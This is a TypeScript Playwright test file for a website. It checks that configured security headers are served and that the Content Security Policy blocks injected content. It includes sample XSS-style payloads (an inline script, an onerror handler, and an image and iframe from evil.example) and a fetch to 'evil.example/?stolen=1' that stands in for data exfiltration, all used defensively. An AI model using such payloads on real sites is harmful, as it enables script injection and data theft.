import { readFileSync } from 'node:fs';
import { allowErrors, expect, test } from './fixtures.ts';
import { routes } from './routes.ts';

// All other tests fail when a page violates the policy, because Chromium logs that as an error.

const { hosting } = JSON.parse(readFileSync('firebase.json', 'utf8')) as {
  hosting: { headers: { headers: { key: string; value: string }[] }[] };
};
const configured = Object.fromEntries(
  hosting.headers[0]!.headers.map(({ key, value }) => [key.toLowerCase(), value]),
);

test('every URL is served with the configured headers, and other sites can embed pictures', async ({
  request,
}) => {
  const others = ['/nothing-here', '/survey/youth.json', '/.well-known/security.txt'];
  for (const path of [...routes.map((route) => route.path), ...others])
    expect((await request.get(path)).headers(), path).toMatchObject(configured);
  for (const path of ['/social/home.png', '/favicon.svg']) {
    const headers = (await request.get(path)).headers();
    expect(headers['cross-origin-resource-policy'], path).toBe('cross-origin');
    expect(headers['x-content-type-options'], path).toBe('nosniff');
    // A drawing that is opened by itself is no page of the site.
    if (path.endsWith('.svg')) expect(headers['content-security-policy']).toContain('sandbox');
  }
});

/** What an injection could do, and the directive that blocks it. */
const injected = {
  'script-src-elem': '<script>window.isBroken = true</script>',
  'script-src-attr': '<img src="data:," onerror="window.isBroken = true">',
  'style-src-elem': '<style>body { display: none }</style>',
  'style-src-attr': '<p style="display: none">a</p>',
  'img-src': '<img src="https://evil.example/a.png" alt="">',
  'frame-src': '<iframe src="https://evil.example/a"></iframe>',
};

test('injected code is blocked', async ({ page, pageErrors }) => {
  await page.route('**/aboutus', async (route) => {
    const response = await route.fetch();
    const html = Object.values(injected).join('');
    const body = (await response.text()).replace('</body>', `${html}</body>`);
    await route.fulfill({ response, body });
  });
  await page.addInitScript(() => {
    const violations: string[] = [];
    Object.assign(window, { violations });
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push(event.effectiveDirective),
    );
  });
  await page.goto('/aboutus');
  const sent = await page.evaluate(() =>
    fetch('https://evil.example/?stolen=1').then(String, () => 'refused'),
  );
  expect(sent).toBe('refused');
  const violations = () => page.evaluate(() => Reflect.get(window, 'violations') as string[]);
  await expect
    .poll(violations)
    .toEqual(expect.arrayContaining([...Object.keys(injected), 'connect-src']));
  expect(await page.evaluate(() => 'isBroken' in window)).toBe(false);
  allowErrors(pageErrors);
});
